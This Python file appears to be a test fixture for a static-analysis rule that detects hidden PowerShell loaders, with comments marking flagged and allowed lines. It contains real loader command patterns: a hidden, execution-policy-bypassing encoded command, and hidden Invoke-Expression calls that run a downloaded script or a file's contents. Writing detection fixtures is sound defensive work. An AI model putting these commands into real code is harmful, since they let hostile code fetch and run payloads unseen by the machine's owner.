"""Fixture for generic-hidden-powershell-loader (Python).

RULEID: an f-string -EncodedCommand with a hidden window; IEX of a staged file's text.
OK: a hidden window running a literal command; a visible encoded command; a hidden download
into IEX (generic-hidden-powershell-download reports it, once).
"""
import base64
import subprocess


def stage(script: str, url: str) -> None:
    enc = base64.b64encode(script.encode("utf-16le")).decode()
    # ruleid: generic-hidden-powershell-loader
    subprocess.Popen(f"powershell -NoP -W Hidden -Exec Bypass -EncodedCommand {enc}", shell=True)
    # ok: generic-hidden-powershell-loader
    subprocess.Popen("powershell -windowstyle hidden -c \"IEX (iwr '%s' -UseBasicParsing)\"" % url, shell=True)
    # ruleid: generic-hidden-powershell-loader
    subprocess.Popen("powershell -windowstyle hidden -c \"IEX (Get-Content '%s' -Raw)\"" % url, shell=True)


def tidy(enc: str) -> None:
    # ok: generic-hidden-powershell-loader
    subprocess.run("powershell -NoProfile -WindowStyle Hidden -Command Clear-RecycleBin -Force", shell=True)
    # ok: generic-hidden-powershell-loader
    subprocess.run(["powershell", "-NoProfile", "-EncodedCommand", enc])
